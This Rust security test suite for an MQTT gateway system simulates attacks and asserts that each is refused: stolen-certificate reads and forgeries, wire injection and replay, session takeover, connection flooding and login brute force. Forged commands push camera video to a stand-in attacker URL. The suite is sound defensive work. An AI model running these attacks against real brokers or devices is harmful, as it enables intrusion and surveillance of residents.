//! The trust boundary, tried as an attacker holding one device would try it: a stolen gateway
//! certificate (with `mosquitto_sub` and `mosquitto_pub`, on both brokers), forged and
//! replayed messages injected on the wire, a terminal's or a source's token posting the
//! gateway's own events, a source filling its quota, silent connections to every listener,
//! hundreds of wrong logins, and a revoked certificate. Each test names the threat it answers
//! in `docs/security.md`.

use std::process::Command;
use std::time::{Duration, Instant};

use firmware_config::config::TlsFiles;
use gridedge_tests::services::{central_events, TestCentral, TestGateway};
use gridedge_tests::{eventually, init_test_logging, Mosquitto, TestPki};
use serde_json::{json, Value};

const MOSQUITTO_SUB: &str = "/usr/bin/mosquitto_sub";
const MOSQUITTO_PUB: &str = "/usr/bin/mosquitto_pub";

/// The value of the first metric line starting with `name` (0 when absent).
fn metric(text: &str, name: &str) -> f64 {
    text.lines()
        .find_map(|l| l.strip_prefix(name).and_then(|r| r.trim().parse().ok()))
        .unwrap_or(0.0)
}

async fn gateway_metric(gw: &TestGateway, name: &str) -> f64 {
    metric(&gridedge_tests::get_text(gw.url("/metrics")).await, name)
}

fn tls_args<'a>(port: u16, files: &'a TlsFiles, client_id: &'a str) -> Vec<String> {
    vec![
        "-h".into(),
        "localhost".into(),
        "-p".into(),
        port.to_string(),
        "--cafile".into(),
        files.ca_file.display().to_string(),
        "--cert".into(),
        files.cert_file.display().to_string(),
        "--key".into(),
        files.key_file.display().to_string(),
        "-i".into(),
        client_id.into(),
        "-d".into(),
    ]
}

/// `mosquitto_sub` with a (stolen) certificate for `secs` seconds on `filters`: what it printed
/// (`topic payload` lines and its debug lines) and its exit code.
fn subscribe(
    port: u16,
    files: &TlsFiles,
    client_id: &str,
    filters: &[&str],
    secs: u64,
) -> (String, Option<i32>) {
    let mut cmd = Command::new(MOSQUITTO_SUB);
    cmd.args(tls_args(port, files, client_id))
        .args(["-v", "-W", &secs.to_string()]);
    for f in filters {
        cmd.args(["-t", f]);
    }
    let out = cmd
        .output()
        .expect("mosquitto_sub (deploy/bootstrap.sh installs it)");
    (
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
        out.status.code(),
    )
}

/// `mosquitto_pub` of `payload` on `topic` at QoS 1 with a (stolen) certificate: what it
/// printed and its exit code.
fn publish(
    port: u16,
    files: &TlsFiles,
    client_id: &str,
    topic: &str,
    payload: &[u8],
) -> (String, Option<i32>) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("payload");
    std::fs::write(&file, payload).unwrap();
    let out = Command::new(MOSQUITTO_PUB)
        .args(tls_args(port, files, client_id))
        .args(["-q", "1", "-t", topic, "-f"])
        .arg(&file)
        .output()
        .expect("mosquitto_pub (deploy/bootstrap.sh installs it)");
    (
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
        out.status.code(),
    )
}

fn port_of(url: &str) -> u16 {
    url.rsplit(':').next().and_then(|p| p.parse().ok()).unwrap()
}

fn events(start: usize, n: usize) -> Value {
    Value::Array(
        (start..start + n)
            .map(|i| {
                json!({"class": "submission", "kind": "resident.note",
                "payload": {"n": i, "name": "张女士", "phone": "13800138000"}})
            })
            .collect(),
    )
}

/// Every event sequence number central stored for `gateway`.
async fn stored(central: &TestCentral, gateway: &str) -> Vec<u64> {
    central_events(central.http_addr, gateway)
        .await
        .unwrap_or_default()
        .iter()
        .filter_map(|e| e["seq"].as_u64())
        .collect()
}

/// Waits up to `secs` until central holds exactly `want` of `gateway`'s events.
async fn wait_stored(central: &TestCentral, gateway: &str, want: &[u64], secs: u64) {
    let what = format!("{gateway}'s events {want:?} at central");
    eventually(&what, Duration::from_secs(secs), || async {
        (stored(central, gateway).await == want).then_some(())
    })
    .await
    .unwrap();
}

async fn wait_online(central: &TestCentral, id: &str) {
    central
        .wait_presence(id, "online", Duration::from_secs(20))
        .await
        .unwrap();
}

/// What an attacker holding `thief`'s certificate tries against `victim` on a broker at
/// `port`: reading everything, publishing on the victim's topics (a wide ack, a video push to
/// anywhere, a forged event batch, a fake `offline`), and connecting as the victim. Returns
/// what the reader saw and the takeover's exit code.
fn attack(port: u16, thief: &TlsFiles, victim: &str) -> (String, Option<i32>) {
    // First listen (one connection at a time: a second with the same client id would end the
    // first), while the victim works.
    let filters = [
        "gridedge/v1/#".to_owned(),
        format!("gridedge/v1/gw/{victim}/ack"),
        format!("gridedge/v1/gw/{victim}/cmd"),
        format!("gridedge/v1/gw/{victim}/data"),
        "gridedge/v1/gw/+/events".to_owned(),
        "$share/thieves/gridedge/v1/gw/+/events".to_owned(),
    ];
    let f: Vec<&str> = filters.iter().map(String::as_str).collect();
    let (read, _) = subscribe(port, thief, "gw-thief", &f, 8);
    let forged_ack = json!({"v": 1, "kind": "ack", "gateway": victim, "seq": 1,
        "time": "2026-12-01T00:00:00Z",
        "payload": {"watermark": 0, "ranges": [[0, u64::MAX]], "batch": 1}});
    let forged_cmd = json!({"v": 1, "kind": "command", "gateway": victim, "seq": 2,
        "time": "2026-12-01T00:00:00Z",
        "payload": {"id": "x", "name": "video.upstream.start",
                    "args": {"camera": "hall", "url": "ws://203.0.113.9/steal"}}});
    let signer = firmware_config::runtime::signing::Signer::from_files(thief).unwrap();
    let forged_batch =
        gridedge_tests::backbone::forged_batch(victim, 9, 9_000_001, Some(&signer)).unwrap();
    let fake_offline = json!({"v": 1, "kind": "status", "gateway": victim, "seq": u64::MAX,
        "time": "2026-12-01T00:00:00Z",
        "payload": {"state": "offline", "version": "x", "site": "x"}});
    for (channel, payload) in [
        ("ack", serde_json::to_vec(&forged_ack).unwrap()),
        ("cmd", serde_json::to_vec(&forged_cmd).unwrap()),
        ("data", b"{}".to_vec()),
        ("events", forged_batch),
        ("status", serde_json::to_vec(&fake_offline).unwrap()),
    ] {
        let (out, code) = publish(
            port,
            thief,
            "gw-thief",
            &format!("gridedge/v1/gw/{victim}/{channel}"),
            &payload,
        );
        // The broker answers as MQTT 3.1.1 allows (a PUBACK, nothing delivered) or closes the
        // connection; either way nothing may reach anyone.
        assert!(code.is_some(), "{channel}: {out}");
    }
    // Connecting with the victim's client id, to take its session over.
    let (takeover, code) = subscribe(
        port,
        thief,
        victim,
        &[&format!("gridedge/v1/gw/{victim}/cmd")],
        3,
    );
    (format!("{read}\n--- takeover:\n{takeover}"), code)
}

/// [`attack`] by `thief` on `victim` while the victim works (residents' data out, acks back):
/// what the thief saw, its takeover's exit code, and the events the victim sent. What it saw
/// must hold none of the victim's traffic.
async fn attacked_while_working(
    port: u16,
    thief: TlsFiles,
    victim: &TestGateway,
) -> (String, Option<i32>, Vec<u64>) {
    let id = victim.id.clone();
    let attack = tokio::task::spawn_blocking(move || attack(port, &thief, &id));
    let mut sent = Vec::new();
    for r in 0..10 {
        sent.extend(victim.post_events(&events(r * 5, 5)).await.unwrap());
        tokio::time::sleep(Duration::from_millis(800)).await;
    }
    let (seen, takeover) = attack.await.unwrap();
    assert!(
        !seen.contains("received PUBLISH"),
        "the thief read the victim's traffic:\n{seen}"
    );
    assert!(
        !seen.contains("13800138000"),
        "residents' data leaked:\n{seen}"
    );
    (seen, takeover, sent)
}

/// After an attack: the victim never left, nothing it sent was lost or doubled, nothing forged
/// was stored, and it refused nothing (nothing forged even reached it).
async fn victim_unharmed(central: &TestCentral, gw: &TestGateway, sent: &[u64]) {
    wait_stored(central, &gw.id, sent, 20).await;
    let all = central_events(central.http_addr, &gw.id).await.unwrap();
    assert!(
        all.iter().all(|e| e["kind"] != "forged"),
        "a forgery was stored"
    );
    assert_eq!(central.presence_of(&gw.id).await.as_deref(), Some("online"));
    let text = gridedge_tests::get_text(gw.url("/metrics")).await;
    assert_eq!(
        metric(&text, "gridedge_gateway_uplink_reconnects_total"),
        0.0,
        "{text}"
    );
    assert!(
        !text.contains("gridedge_gateway_downlink_refused_total{"),
        "{text}"
    );
    assert_eq!(
        metric(
            &text,
            "gridedge_gateway_outbox_pending{class=\"submission\"}"
        ),
        0.0
    );
}

/// Threat: a stolen gateway certificate reads and forges on the embedded broker.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stolen_gateway_certificate_reads_and_forges_nothing_on_the_embedded_broker() {
    init_test_logging();
    let dir = tempfile::tempdir().unwrap();
    let pki = TestPki::new(dir.path()).unwrap();
    let (central, tls_url) = TestCentral::embedded_tls(&pki).await.unwrap();
    let victim = TestGateway::start(
        "gw-victim",
        &tls_url,
        Some(&pki.client("gw-victim").unwrap()),
    )
    .await
    .unwrap();
    wait_online(&central, "gw-victim").await;
    // A certificate of a real gateway — stolen with its box.
    let thief = pki.client("gw-thief").unwrap();
    let port = port_of(&tls_url);

    let (seen, takeover, sent) = attacked_while_working(port, thief, &victim).await;
    // Every wide subscription was refused in the SUBACK (0x80 = 128).
    assert!(seen.contains("128, 128, 128, 128, 128, 128"), "{seen}");
    assert_ne!(takeover, Some(0), "the takeover connected:\n{seen}");
    let text = central.metrics().await;
    assert!(
        metric(
            &text,
            "gridedge_central_broker_refused_total{action=\"publish\"}"
        ) >= 5.0,
        "{text}"
    );
    assert!(
        metric(
            &text,
            "gridedge_central_broker_refused_total{action=\"subscribe\"}"
        ) >= 6.0,
        "{text}"
    );
    assert!(
        metric(
            &text,
            "gridedge_central_broker_refused_total{action=\"connect\"}"
        ) >= 1.0,
        "{text}"
    );
    victim_unharmed(&central, &victim, &sent).await;
}

/// Threat: a stolen gateway certificate reads and forges on Mosquitto with the shipped
/// configuration and ACL.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stolen_gateway_certificate_reads_and_forges_nothing_on_mosquitto() {
    init_test_logging();
    let m = Mosquitto::start().unwrap();
    let central = TestCentral::external(&m.tls_url(), Some(&m.pki.client("central").unwrap()))
        .await
        .unwrap();
    let victim = TestGateway::start(
        "gw-victim",
        &m.tls_url(),
        Some(&m.pki.client("gw-victim").unwrap()),
    )
    .await
    .unwrap();
    wait_online(&central, "gw-victim").await;
    let thief = m.pki.client("gw-thief").unwrap();
    let port = m.tls_port;

    // Mosquitto grants every subscription and filters what it delivers.
    let (_, _, sent) = attacked_while_working(port, thief, &victim).await;
    // What it published was dropped (the victim refused nothing: nothing reached it; central
    // stored nothing forged and still sees it online), and the takeover connected as the thief
    // (its client id is its certificate's name): the victim stayed on.
    victim_unharmed(&central, &victim, &sent).await;
}

/// Threat: someone on the network path of a gateway not on TLS (the development listener)
/// injects forged messages from "central" and replays real ones. Every one is refused by its
/// signature, its address or its number, and nothing the gateway holds is lost.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forged_and_replayed_downlink_injected_on_the_wire_is_refused() {
    use firmware_config::topics::Channel;
    use firmware_config::wire::{Ack, Command, Message};
    use gridedge_tests::proxy::{mqtt_publish, MqttTap};
    init_test_logging();
    let m = Mosquitto::start().unwrap();
    let central = TestCentral::external(&m.url(), None).await.unwrap();
    let tap = MqttTap::start(m.addr()).await.unwrap();
    let gw = TestGateway::start("gw-tapped", &format!("mqtt://{}", tap.addr), None)
        .await
        .unwrap();
    wait_online(&central, "gw-tapped").await;
    let first = gw.post_events(&events(0, 5)).await.unwrap();
    wait_stored(&central, "gw-tapped", &first, 20).await;
    let genuine = eventually(
        "a real ack on the wire",
        Duration::from_secs(10),
        || async {
            let acks = tap.seen_on("gridedge/v1/gw/gw-tapped/ack");
            (!acks.is_empty()).then_some(acks)
        },
    )
    .await
    .unwrap();
    eventually(
        "the first events acknowledged",
        Duration::from_secs(10),
        || async {
            (gateway_metric(&gw, "gridedge_gateway_uplink_events_acked_total").await == 5.0)
                .then_some(())
        },
    )
    .await
    .unwrap();

    // Central goes away: what the gateway sends next waits in its outbox.
    central.stop().await.unwrap();
    let pending = gw.post_events(&events(5, 10)).await.unwrap();
    let topic = |ch: &str| format!("gridedge/v1/gw/gw-tapped/{ch}");
    let wide = Message::Ack(Ack {
        watermark: u64::MAX,
        ranges: vec![(0, u64::MAX)],
        batch: Some(1),
    });
    // 1. An ack from nobody: unsigned.
    let env = firmware_config::wire::Envelope::new(
        firmware_config::ids::GatewayId::new("gw-tapped").unwrap(),
        1,
        wide.clone(),
    );
    tap.inject(mqtt_publish(&topic("ack"), &env.encode().unwrap()));
    // 2. An ack and a command signed by a key that is not central's.
    let (rogue, _) = firmware_config::bundle::SigningKey::generate().unwrap();
    let rogue = firmware_config::runtime::signing::DownlinkSigner::new(rogue);
    let mut env = env.clone();
    env.seq = u64::MAX / 2;
    tap.inject(mqtt_publish(
        &topic("ack"),
        &rogue.encode(Channel::Ack, &env).unwrap(),
    ));
    let push = firmware_config::wire::Envelope::new(
        env.gateway.clone(),
        u64::MAX / 2,
        Message::Command(Command {
            id: "steal".into(),
            name: "video.upstream.start".into(),
            args: json!({"camera": "hall", "url": "ws://203.0.113.9/steal"}),
        }),
    );
    tap.inject(mqtt_publish(
        &topic("cmd"),
        &rogue.encode(Channel::Cmd, &push).unwrap(),
    ));
    // 3. A real ack of central's, replayed.
    tap.inject(mqtt_publish(&topic("ack"), &genuine[0]));
    // 4. A real message of central's for another gateway, moved onto this one's topic.
    let elsewhere = gridedge_tests::services::sealed("gw-other", Channel::Ack, wide).unwrap();
    tap.inject(mqtt_publish(&topic("ack"), &elsewhere));

    let refused = |reason: &str| {
        let name = format!("gridedge_gateway_downlink_refused_total{{reason=\"{reason}\"}}");
        let gw = &gw;
        async move { gateway_metric(gw, &name).await }
    };
    eventually("every forgery refused", Duration::from_secs(10), || async {
        let counts = (
            refused("unsigned").await,
            refused("bad_signature").await,
            refused("replayed").await,
            refused("other_gateway").await,
        );
        (counts == (1.0, 2.0, 1.0, 1.0)).then_some(())
    })
    .await
    .unwrap_or_else(|e| panic!("{e}"));
    // Nothing was deleted, no video was pushed anywhere.
    assert_eq!(
        gateway_metric(&gw, "gridedge_gateway_outbox_pending{class=\"submission\"}").await,
        10.0
    );
    assert_eq!(
        gateway_metric(&gw, "gridedge_gateway_uplink_events_acked_total").await,
        5.0
    );

    // Central is back: every pending event arrives, once.
    let central = TestCentral::external(&m.url(), None).await.unwrap();
    wait_stored(&central, "gw-tapped", &pending, 40).await;
}

/// Threat: a kiosk's or a viewer's token, or a source's, posts events of the gateway's own
/// kinds — clearing a camera's tamper alert, faking a terminal's state, slipping in a
/// submission. None gets in; a source posts only the kinds it is for; central marks who posted
/// what.
#[tokio::test]
async fn no_token_posts_the_gateways_own_kinds_and_a_source_only_its_own() {
    init_test_logging();
    let central = TestCentral::embedded().await.unwrap();
    let door_token = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(door_token.path(), "token-of-the-door").unwrap();
    let door = format!(
        "\n[[sources]]\nid = \"door\"\nname = \"Door controller\"\nkinds = [\"door.*\"]\n\
         token = {{ file = \"{}\" }}\n",
        door_token.path().display()
    );
    let gw = TestGateway::start_with(
        "gw-kinds",
        central.broker_url.as_deref().unwrap(),
        None,
        &door,
    )
    .await
    .unwrap();
    let post = |token: Option<String>, kind: &str| {
        let url = gw.url("/api/v1/events");
        let body = json!([{"class": "alert", "kind": kind, "payload": {"camera": "hall", "terminal": "kiosk-1"}}]);
        async move {
            let mut r = reqwest::Client::new().post(url).json(&body);
            if let Some(t) = token {
                r = r.bearer_auth(t);
            }
            let r = r.send().await.unwrap();
            let status = r.status().as_u16();
            (status, r.json::<Value>().await.unwrap_or(Value::Null))
        }
    };
    // A terminal's token (the security room's video terminal), none, a wrong one.
    let (status, body) = post(
        Some(gridedge_tests::services::viewer_token("gw-kinds")),
        "door.forced",
    )
    .await;
    assert_eq!(status, 403, "{body}");
    assert!(
        body["error"]
            .as_str()
            .unwrap()
            .contains("only the centre's event sources"),
        "{body}"
    );
    assert_eq!(post(None, "door.forced").await.0, 401);
    assert_eq!(post(Some("guess".into()), "door.forced").await.0, 401);
    // A source's token, with each family of the gateway's own kinds.
    let tests = Some(gridedge_tests::services::source_token("gw-kinds"));
    let own = [
        "camera.covered.cleared",
        "camera.offline",
        "terminal.offline",
        "submission.created",
        "config.applied",
        "meeting.answer",
        "gateway.outbox_quarantined",
        "video.upstream.start",
        "kiosk.report",
        "content.fetched",
    ];
    for kind in own {
        let (status, body) = post(tests.clone(), kind).await;
        assert_eq!(status, 403, "{kind}: {body}");
        assert!(
            body["error"]
                .as_str()
                .unwrap()
                .contains("gateway's own kinds"),
            "{body}"
        );
    }
    // The door controller posts door events, and nothing else.
    let door_token = Some("token-of-the-door".to_owned());
    let (status, body) = post(door_token.clone(), "smoke.alarm").await;
    assert_eq!(status, 403, "{body}");
    assert!(
        body["error"]
            .as_str()
            .unwrap()
            .contains("may post only door.*"),
        "{body}"
    );
    let (status, body) = post(door_token, "door.forced").await;
    assert_eq!(status, 200, "{body}");
    let text = gridedge_tests::get_text(gw.url("/metrics")).await;
    assert_eq!(
        metric(
            &text,
            "gridedge_gateway_events_refused_total{reason=\"gateway_kind\"}"
        ),
        own.len() as f64
    );
    assert_eq!(
        metric(
            &text,
            "gridedge_gateway_events_refused_total{reason=\"kind_not_allowed\"}"
        ),
        1.0
    );
    assert_eq!(
        metric(
            &text,
            "gridedge_gateway_events_refused_total{reason=\"not_a_source\"}"
        ),
        1.0
    );
    // Central stored the one event, naming the source that posted it, and made it an alert of
    // that source.
    let stored = eventually(
        "the door's event at central",
        Duration::from_secs(20),
        || async {
            let all = central_events(central.http_addr, "gw-kinds").await.ok()?;
            (all.len() == 1).then_some(all)
        },
    )
    .await
    .unwrap();
    assert_eq!(stored[0]["kind"], "door.forced");
    assert_eq!(stored[0]["source"], "door", "{stored:?}");
    let op = central.console("op").await.unwrap();
    let alert = eventually("the door's alert", Duration::from_secs(20), || async {
        let (_, v) = op.get("/api/v1/alerts?all=true").await;
        v["alerts"]
            .as_array()?
            .iter()
            .find(|a| a["rule"] == "door.forced")
            .cloned()
    })
    .await
    .unwrap();
    assert_eq!(alert["key"], "gw-kinds/source/door#door.forced", "{alert}");
}

/// Threat: an unauthenticated client makes the gateway read a large body before it is turned
/// away. The sender is known from its headers; without a source's token the answer comes
/// before the body is sent at all.
#[tokio::test]
async fn a_body_is_not_read_before_its_sender_is_known() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    init_test_logging();
    let gw = TestGateway::start("gw-body", "mqtt://127.0.0.1:1", None)
        .await
        .unwrap();
    let mut s = tokio::net::TcpStream::connect(gw.http_addr).await.unwrap();
    // Announces 16 MiB and sends none of it.
    s.write_all(b"POST /api/v1/events HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 16000000\r\n\r\n")
        .await
        .unwrap();
    let mut answer = vec![0u8; 512];
    let n = tokio::time::timeout(Duration::from_secs(2), s.read(&mut answer))
        .await
        .expect("answered without waiting for the body")
        .unwrap();
    let head = String::from_utf8_lossy(&answer[..n]);
    assert!(head.starts_with("HTTP/1.1 401"), "{head}");
}

/// Threat: one source fills the outbox with alerts during a WAN cut, so that the gateway's own
/// alerts and residents' submissions would be refused. The source stops at its quota; the
/// gateway's camera alert still gets in, and reaches central when the WAN is back.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_source_at_its_quota_never_keeps_out_the_gateways_camera_alerts() {
    use gridedge_tests::{camera_toml, CameraOptions, Pattern, TestCamera};
    init_test_logging();
    let mut m = Mosquitto::start().unwrap();
    let central = TestCentral::external(&m.url(), None).await.unwrap();
    let mut cam = TestCamera::start(CameraOptions::small(Pattern::Moving)).unwrap();
    let extra = format!(
        "disk_budget = \"16 MiB\"\n{}",
        camera_toml("door", cam.url().as_str(), "")
    );
    let gw = TestGateway::start_with("gw-quota", &m.url(), None, &extra)
        .await
        .unwrap();
    gw.camera_in("door", "streaming").await.unwrap();
    wait_online(&central, "gw-quota").await;

    // The WAN goes down; the source floods the outbox with alerts until it is refused.
    m.stop().unwrap();
    let flood = |n: usize| {
        Value::Array((0..n).map(|i| json!({"class": "alert", "kind": "door.forced", "payload": {"i": i, "pad": "z".repeat(900)}})).collect())
    };
    let mut accepted = 0;
    let refusal = loop {
        let r = reqwest::Client::new()
            .post(gw.url("/api/v1/events"))
            .bearer_auth(gridedge_tests::services::source_token("gw-quota"))
            .json(&flood(200))
            .send()
            .await
            .unwrap();
        if r.status().is_success() {
            accepted += 200;
            assert!(accepted < 20_000, "never refused");
            continue;
        }
        break (r.status().as_u16(), r.text().await.unwrap());
    };
    assert_eq!(refusal.0, 507, "{}", refusal.1);
    assert!(refusal.1.contains("quota"), "{}", refusal.1);
    // The camera is cut: its offline alert is the gateway's own, and gets in.
    cam.stop();
    gw.camera_in("door", "offline").await.unwrap();
    let text = gridedge_tests::get_text(gw.url("/metrics")).await;
    assert_eq!(
        metric(&text, "gridedge_gateway_outbox_pending{class=\"alert\"}"),
        (accepted + 1) as f64,
        "{text}"
    );

    // The WAN is back: central has the camera's alert and every event the source got in.
    m.start_again().unwrap();
    let all = eventually("everything at central", Duration::from_secs(60), || async {
        let all = central_events(central.http_addr, "gw-quota").await.ok()?;
        let doors = all.iter().filter(|e| e["kind"] == "door.forced").count();
        let offline = all
            .iter()
            .any(|e| e["kind"] == "camera.offline" && e.get("source").is_none());
        (doors == accepted && offline).then_some(all)
    })
    .await
    .unwrap();
    assert!(all
        .iter()
        .filter(|e| e["kind"] == "door.forced")
        .all(|e| e["source"] == "tests"));
}

/// Threat: silent or half-sent connections to every listener — the broker's TLS and plain
/// listeners, central's HTTPS, a gateway's HTTP — lock out valid clients. A gateway still
/// connects, and `/healthz` answers within a second; the silent ones are closed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn silent_connections_to_every_listener_starve_no_one() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    init_test_logging();
    let dir = tempfile::tempdir().unwrap();
    let pki = TestPki::new(dir.path()).unwrap();
    let (central, tls_url) = TestCentral::embedded_tls_with(&pki, true).await.unwrap();
    let first = TestGateway::start("gw-first", &tls_url, Some(&pki.client("gw-first").unwrap()))
        .await
        .unwrap();
    let https = reqwest::Client::builder()
        .add_root_certificate(
            reqwest::Certificate::from_pem(&std::fs::read(&pki.ca_file).unwrap()).unwrap(),
        )
        .build()
        .unwrap();
    let central_url = format!("https://localhost:{}", central.http_addr.port());
    // Waits until central counts `n` gateways online (its metrics, over HTTPS).
    let online = |n: u32| {
        let (https, url) = (https.clone(), format!("{central_url}/metrics"));
        async move {
            eventually(&format!("{n} online"), Duration::from_secs(20), || async {
                let body = https.get(&url).send().await.ok()?.text().await.ok()?;
                body.contains(&format!(
                    "gridedge_central_gateways{{presence=\"online\"}} {n}"
                ))
                .then_some(())
            })
            .await
            .unwrap()
        }
    };
    online(1).await;
    let plain: std::net::SocketAddr = central
        .broker_url
        .as_deref()
        .unwrap()
        .trim_start_matches("mqtt://")
        .parse()
        .unwrap();
    let listeners = [
        (
            "broker tls",
            std::net::SocketAddr::from(([127, 0, 0, 1], port_of(&tls_url))),
        ),
        ("broker plain", plain),
        ("central https", central.http_addr),
        ("gateway http", first.http_addr),
    ];
    let mut silent = Vec::new();
    for (_, addr) in listeners {
        for i in 0..100 {
            let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
            // A fifth send half a request (or half a handshake) and stop there.
            if i % 5 == 0 {
                let _ = s.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n").await;
            }
            silent.push(s);
        }
    }
    let t0 = Instant::now();
    let late = TestGateway::start("gw-late", &tls_url, Some(&pki.client("gw-late").unwrap()))
        .await
        .unwrap();
    for (what, get) in [
        ("central", https.get(format!("{central_url}/healthz"))),
        ("gateway", https.get(first.url("/healthz"))),
    ] {
        let asked = Instant::now();
        let r = get.send().await.unwrap();
        assert!(r.status().is_success(), "{what}");
        assert!(
            asked.elapsed() < Duration::from_secs(1),
            "{what} /healthz took {:?}",
            asked.elapsed()
        );
    }
    online(2).await;
    assert!(
        t0.elapsed() < Duration::from_secs(10),
        "gw-late took {:?}",
        t0.elapsed()
    );
    assert_eq!(
        gateway_metric(&late, "gridedge_gateway_uplink_connected").await,
        1.0
    );
    // The silent ones are let go: the broker's after its connect timeout (5 s), HTTP's after
    // its header timeout (10 s).
    tokio::time::sleep(Duration::from_secs(12)).await;
    let mut closed = 0;
    for s in &mut silent {
        let mut b = [0u8; 64];
        if let Ok(Ok(0) | Err(_)) =
            tokio::time::timeout(Duration::from_millis(50), s.read(&mut b)).await
        {
            closed += 1;
        } else if let Ok(Ok(_)) =
            tokio::time::timeout(Duration::from_millis(50), s.read(&mut b)).await
        {
            // An answer (a 408 or an alert) before the close.
            closed += 1;
        }
    }
    assert_eq!(
        closed,
        silent.len(),
        "still open after 12 s: {}",
        silent.len() - closed
    );
}

/// Threat: hundreds of password guesses, many at once, to guess a login and to exhaust central
/// (each check costs ~19 MiB). Against the real binary: a few are checked, the rest are
/// answered 429 with `Retry-After` before any check, memory stays flat, and the audit holds
/// one growing entry instead of one per guess.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn five_hundred_wrong_logins_are_throttled_and_cost_little_memory() {
    use futures::StreamExt;
    init_test_logging();
    let dir = tempfile::tempdir().unwrap();
    let (broker, http) = (gridedge_tests::free_port(), gridedge_tests::free_port());
    let text = gridedge_tests::services::central_toml(dir.path(), broker, http);
    let central = gridedge_tests::services::ServiceProcess::spawn("central", &text).unwrap();
    gridedge_tests::wait_for_port(([127, 0, 0, 1], http).into(), Duration::from_secs(20)).unwrap();
    let pid = central.process.pid().unwrap();
    let before = gridedge_tests::process::rss_mib(pid);
    let peak = std::sync::Arc::new(std::sync::Mutex::new(before));
    let sampler = {
        let peak = peak.clone();
        tokio::spawn(async move {
            loop {
                let now = gridedge_tests::process::rss_mib(pid);
                if let Ok(mut p) = peak.lock() {
                    *p = p.max(now);
                }
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        })
    };
    let url = format!("http://127.0.0.1:{http}/api/v1/session");
    let client = reqwest::Client::new();
    let t0 = Instant::now();
    let answers: Vec<(u16, Option<u64>)> = futures::stream::iter(0..500)
        .map(|i| {
            let (client, url) = (client.clone(), url.clone());
            async move {
                let r = client
                    .post(url)
                    .json(&json!({"name": "admin", "password": format!("guess-{i}")}))
                    .send()
                    .await
                    .unwrap();
                let wait = r
                    .headers()
                    .get("retry-after")
                    .and_then(|v| v.to_str().ok()?.parse().ok());
                (r.status().as_u16(), wait)
            }
        })
        .buffer_unordered(64)
        .collect()
        .await;
    let took = t0.elapsed();
    sampler.abort();
    let peak = *peak.lock().unwrap();
    let checked = answers.iter().filter(|(s, _)| *s == 401).count();
    let throttled = answers.iter().filter(|(s, _)| *s == 429).count();
    assert!(
        answers.iter().all(|(s, _)| [401, 429, 503].contains(s)),
        "{answers:?}"
    );
    assert!(checked <= 12, "{checked} passwords checked of 500");
    assert!(throttled >= 450, "{throttled} throttled of 500");
    assert!(answers
        .iter()
        .filter(|(s, _)| *s == 429)
        .all(|(_, w)| w.is_some_and(|w| w >= 1)));
    assert!(took < Duration::from_secs(30), "took {took:?}");
    assert!(peak - before < 64.0, "RSS {before:.0} → peak {peak:.0} MiB");
    // One audit entry for the burst, counting the guesses that were checked.
    let audit: Value = gridedge_tests::services::api_client()
        .get(format!("http://127.0.0.1:{http}/api/v1/operators/audit"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let refused: Vec<&Value> = audit["audit"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "login refused" && e["who"] == "admin")
        .collect();
    assert_eq!(refused.len(), 1, "{audit}");
    let target = refused[0]["target"].as_str().unwrap();
    assert!(
        target.starts_with(&format!("{checked} failed since")),
        "{target}"
    );
    assert!(target.ends_with("from 127.0.0.1"), "{target}");
    // The right password, from the same address, waits its turn like the rest.
    let r = client
        .post(&url)
        .json(&json!({"name": "admin", "password": gridedge_tests::services::operator_password("admin")}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 429);
}

/// Threat: a stolen gateway is revoked. Within a minute, and without a restart, the embedded
/// broker cuts the stolen certificate's session and refuses it, while the real gateway, given a
/// renewed certificate, comes back on its own; an expired certificate is refused outright.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_revoked_certificate_is_cut_off_within_a_minute_and_a_renewed_one_takes_over() {
    init_test_logging();
    let dir = tempfile::tempdir().unwrap();
    let pki = TestPki::new(&dir.path().join("pki")).unwrap();
    let crl = pki.crl_file().unwrap();
    let (central, tls_url) = TestCentral::embedded_tls_config(
        &pki,
        false,
        &format!("crl_file = \"{}\"\n", crl.display()),
    )
    .await
    .unwrap();
    let files = pki.client("gw-rev").unwrap();
    // What the thief takes: the certificate and its key, as they are now.
    let stolen_dir = dir.path().join("stolen");
    std::fs::create_dir_all(&stolen_dir).unwrap();
    let stolen = TlsFiles {
        ca_file: files.ca_file.clone(),
        cert_file: stolen_dir.join("gw-rev.pem"),
        key_file: stolen_dir.join("gw-rev.key"),
    };
    std::fs::copy(&files.cert_file, &stolen.cert_file).unwrap();
    std::fs::copy(&files.key_file, &stolen.key_file).unwrap();
    let gw = TestGateway::start("gw-rev", &tls_url, Some(&files))
        .await
        .unwrap();
    wait_online(&central, "gw-rev").await;

    // The owner gets a renewed certificate; the stolen one is revoked.
    pki.renew("gw-rev", 30).unwrap();
    pki.revoke(&stolen).unwrap();
    let t0 = Instant::now();
    eventually(
        "the old session cut and the gateway back with its new certificate",
        Duration::from_secs(60),
        || async {
            let text = gridedge_tests::get_text(gw.url("/metrics")).await;
            (metric(&text, "gridedge_gateway_uplink_reconnects_total") >= 1.0
                && metric(&text, "gridedge_gateway_uplink_connected") == 1.0)
                .then_some(())
        },
    )
    .await
    .unwrap();
    assert!(
        t0.elapsed() < Duration::from_secs(60),
        "took {:?}",
        t0.elapsed()
    );
    let text = central.metrics().await;
    assert_eq!(
